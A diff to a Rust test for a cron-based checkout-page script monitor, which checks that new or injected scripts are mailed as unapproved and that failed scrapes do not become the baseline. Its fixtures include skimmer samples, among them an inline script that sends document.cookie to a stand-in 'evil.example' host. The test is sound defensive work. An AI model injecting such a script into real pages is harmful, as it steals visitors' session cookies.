@@ -289,17 +289,32 @@ fn schedule_stripped(line: &str) -> &str {
 }
 
 /// The checkout page the watch recipe guards, with a first-party and a
-/// third-party script.
+/// third-party script, and `{night}`: filler that is not a script, so that
+/// the page report's `bytes` tells which night's run the baseline is.
 const CHECKOUT: &str = r#"<!doctype html><html><head>
 <script src="/js/app.js"></script>
 <script src="https://cdn.payments.example/pay.js"></script>
-</head><body><script>window.cart = 1;</script></body></html>"#;
+</head><body><p>{night}</p><script>window.cart = 1;</script></body></html>"#;
+
+/// The skimmers of the night they come: a third-party file, and an inline
+/// script and a first-party file, the kinds `--only-third-party` passes
+/// over.
+const SKIMMER: &str = r#"<script src="https://evil2.example/skim2.js"></script>"#;
+const INLINE_SKIMMER: &str =
+    r#"<script>fetch("https://evil.example/steal?"+document.cookie)</script>"#;
+const FIRST_PARTY_SKIMMER: &str = r#"<script src="/skimmer.js"></script>"#;
 
 #[test]
-fn watch_recipe_mails_only_changes_and_moves_the_baseline() {
+fn watch_recipe_mails_changes_and_moves_the_baseline_only_after_a_good_scrape() {
     let server = TestServer::start();
-    server.set_page("checkout", CHECKOUT);
     server.set_page("cart", "<script src=/js/cart.js></script>");
+    let checkout_url = server.url("/page/checkout");
+    // Night n's checkout page, with `extra` scripts before </body>.
+    let checkout = |n: usize, extra: &str| {
+        CHECKOUT
+            .replace("{night}", &"x".repeat(n))
+            .replace("</body>", &format!("{extra}</body>"))
+    };
     let mut sandbox = Sandbox::new();
 
     let setup = &blocks_in("Watch your pages", "sh")[0];
@@ -312,81 +327,145 @@ fn watch_recipe_mails_only_changes_and_moves_the_baseline() {
     assert_eq!(ran.code, Some(0), "setup failed: {}", ran.printed());
     assert!(sandbox.file("allowed.txt").exists());
 
+    // Every job of the crontab, in its order, makes a night; what they
+    // print is what cron mails to the crontab's owner.
     let jobs = sandbox.crontab(&blocks_in("Watch your pages", "cron")[0]);
-    let [scrape, compare] = &jobs[..] else {
-        panic!("expected a scrape job and a compare job: {jobs:?}");
+    assert!(!jobs.is_empty(), "no job in the crontab");
+    let night = || {
+        let mut printed = String::new();
+        for job in &jobs {
+            let ran = sandbox.sh(job);
+            printed.push_str(&ran.printed());
+        }
+        (printed, sandbox.take_mail())
     };
-    let night = |what: &str| {
-        let ran = sandbox.sh(scrape);
-        assert_eq!(ran.code, Some(0), "{what}: scrape: {}", ran.printed());
-        assert_eq!(
-            ran.printed(),
-            "",
-            "{what}: the scrape printed (cron mails it)"
-        );
-        let today = std::fs::read(sandbox.file("today.csv")).expect("today.csv");
-        (sandbox.sh(compare), today)
+    // Which night's run the baseline is, from its checkout page's size.
+    let baseline = || {
+        let pages = Table::read(&sandbox.file("last-pages.csv"));
+        let bytes: usize = pages
+            .for_page(&checkout_url, "bytes")
+            .parse()
+            .expect("bytes");
+        let scripts = std::fs::read(sandbox.file("last.csv")).expect("last.csv");
+        (bytes, scripts)
     };
-    let last = || std::fs::read(sandbox.file("last.csv")).expect("last.csv");
+    let is_night = |n: usize, extra: &str| checkout(n, extra).len();
+    let subject = "mail -s scripts changed on checkout pages sec@example.com\n";
+
+    // Night 0: the server is down on the first night: no baseline is made
+    // of a failed run, and a line says so, which cron mails.
+    server.set_page("checkout", &checkout(0, ""));
+    server.set_down(true);
+    let (printed, mail) = night();
+    server.set_down(false);
+    assert_eq!(printed.lines().count(), 1, "night 0: {printed:?}");
+    assert!(printed.contains("no baseline"), "night 0: {printed}");
+    assert_eq!(mail, "", "night 0 sent mail");
+    assert!(
+        !sandbox.file("last.csv").exists(),
+        "a failed run became the baseline"
+    );
 
     // Night 1: no baseline yet; the run becomes it, silently.
-    let (ran, today) = night("night 1");
-    assert_eq!(ran.code, Some(0), "night 1: {}", ran.printed());
-    assert_eq!(ran.printed(), "", "night 1 printed (cron mails it)");
-    assert_eq!(sandbox.take_mail(), "", "night 1 sent mail");
-    assert_eq!(last(), today, "night 1's run is not the baseline");
+    server.set_page("checkout", &checkout(1, ""));
+    let (printed, mail) = night();
+    assert_eq!(printed, "", "night 1 printed (cron mails it)");
+    assert_eq!(mail, "", "night 1 sent mail");
+    assert_eq!(baseline().0, is_night(1, ""), "night 1 is not the baseline");
     assert!(!sandbox.file("today.csv").exists());
-    assert!(sandbox.file("last-pages.csv").exists());
 
     // Night 2: nothing changed: nothing printed, nothing mailed, and the
     // baseline is tonight's run.
-    let (ran, today) = night("night 2");
-    assert_eq!(ran.code, Some(0), "night 2: {}", ran.printed());
-    assert_eq!(ran.printed(), "", "night 2 printed (cron mails it)");
-    assert_eq!(sandbox.take_mail(), "", "night 2 mailed with no change");
-    assert_eq!(last(), today, "the baseline did not move on night 2");
+    server.set_page("checkout", &checkout(2, ""));
+    let (printed, mail) = night();
+    assert_eq!(printed, "", "night 2 printed (cron mails it)");
+    assert_eq!(mail, "", "night 2 mailed with no change");
+    assert_eq!(baseline().0, is_night(2, ""), "the baseline did not move");
+    assert!(!sandbox.file("today.csv").exists());
+    let good = baseline();
+
+    // Night 3: the server is down. The failed pages are mailed as
+    // `unknown`, and the failed run does not become the baseline.
+    server.set_down(true);
+    let (printed, mail) = night();
+    server.set_down(false);
+    assert_eq!(printed, "", "night 3 printed besides the mail");
+    assert!(mail.starts_with(subject), "night 3 mail: {mail:?}");
+    assert!(mail.contains("unknown"), "night 3 mail: {mail}");
+    assert_eq!(mail.matches("--- end of mail").count(), 1, "{mail}");
+    assert!(
+        baseline() == good,
+        "the run of a night whose pages failed became the baseline"
+    );
+
+    // Night 4: the server is back, and the checkout page has a third-party
+    // skimmer and an injected inline script, the cart page a first-party
+    // one: all are mailed (compared with night 2, the last good run), and
+    // tonight's run is the baseline.
+    let skimmed = format!("{SKIMMER}{INLINE_SKIMMER}");
+    server.set_page("checkout", &checkout(4, &skimmed));
+    server.set_page(
+        "cart",
+        &format!("<script src=/js/cart.js></script>{FIRST_PARTY_SKIMMER}"),
+    );
+    let (printed, mail) = night();
+    assert_eq!(printed, "", "night 4 printed besides the mail");
+    assert!(mail.starts_with(subject), "night 4 mail: {mail:?}");
+    assert_eq!(mail.matches("--- end of mail").count(), 1, "{mail}");
+    assert_eq!(
+        baseline().0,
+        is_night(4, &skimmed),
+        "the baseline did not move"
+    );
+    let scripts = Table::read(&sandbox.file("last.csv"));
+    let inline: Vec<&str> = scripts
+        .rows_where("page_url", &checkout_url)
+        .into_iter()
+        .map(|row| scripts.get(row, "inline_sha256"))
+        .filter(|hash| !hash.is_empty())
+        .collect();
+    let [_, injected] = inline[..] else {
+        panic!("expected two inline scripts on the checkout page: {inline:?}");
+    };
+    for (what, needle) in [
+        ("the third-party skimmer", "https://evil2.example/skim2.js"),
+        ("the inline script", injected),
+        ("the first-party script", "/skimmer.js"),
+    ] {
+        let line = mail
+            .lines()
+            .find(|l| l.contains(needle))
+            .unwrap_or_else(|| panic!("the mail does not name {what} ({needle}): {mail}"));
+        assert!(line.contains("unapproved"), "{what}: {line}\n{mail}");
+    }
+    assert!(!mail.contains("unknown"), "night 4 mail: {mail}");
+
+    // Night 5: nothing changed since night 4: silent, and the baseline
+    // moves on.
+    server.set_page("checkout", &checkout(5, &skimmed));
+    let (printed, mail) = night();
+    assert_eq!(printed, "", "night 5 printed (cron mails it)");
+    assert_eq!(mail, "", "night 5 mailed with no change");
+    assert_eq!(
+        baseline().0,
+        is_night(5, &skimmed),
+        "the baseline did not move"
+    );
     assert!(!sandbox.file("today.csv").exists());
 
-    // Night 3: a skimmer on the checkout page is mailed, and becomes the
-    // baseline.
-    server.set_page(
-        "checkout",
-        &CHECKOUT.replace(
-            "</body>",
-            "<script src=\"https://skimmer.example/s.js\"></script></body>",
-        ),
-    );
-    let (ran, today) = night("night 3");
-    assert_eq!(ran.code, Some(0), "night 3: {}", ran.printed());
-    assert_eq!(ran.printed(), "", "night 3 printed besides the mail");
-    let mail = sandbox.take_mail();
-    assert!(
-        mail.starts_with("mail -s scripts changed on checkout pages sec@example.com\n"),
-        "night 3 mail: {mail:?}"
-    );
-    assert!(
-        mail.contains("unapproved") && mail.contains("https://skimmer.example/s.js"),
-        "the mail does not name the new script: {mail}"
-    );
-    assert_eq!(mail.matches("--- end of mail").count(), 1, "{mail}");
-    assert_eq!(last(), today, "the baseline did not move on night 3");
-
-    // Night 4: a comparison that cannot run (allowed.txt gone) says why in
-    // one line, which cron mails; the baseline stays, the job fails.
+    // Night 6: a comparison that cannot run (allowed.txt gone) says why in
+    // one line, which cron mails; the baseline stays.
     std::fs::remove_file(sandbox.file("allowed.txt")).expect("remove allowed.txt");
-    let before = last();
-    let (ran, _) = night("night 4");
-    assert_ne!(ran.code, Some(0), "night 4 exit status");
-    assert_eq!(ran.stdout, "");
-    assert_eq!(ran.stderr.lines().count(), 1, "night 4: {}", ran.stderr);
-    assert!(ran.stderr.contains("allowed.txt"), "{}", ran.stderr);
-    assert_eq!(sandbox.take_mail(), "", "night 4 mailed changes.txt");
-    assert_eq!(
-        last(),
-        before,
+    let before = baseline();
+    server.set_page("checkout", &checkout(6, &skimmed));
+    let (printed, mail) = night();
+    assert_eq!(printed.lines().count(), 1, "night 6: {printed}");
+    assert!(printed.contains("allowed.txt"), "{printed}");
+    assert_eq!(mail, "", "night 6 mailed changes.txt");
+    assert!(
+        baseline() == before,
         "the baseline moved after a failed comparison"
     );
-    assert!(sandbox.file("today.csv").exists());
 }
 
 #[test]
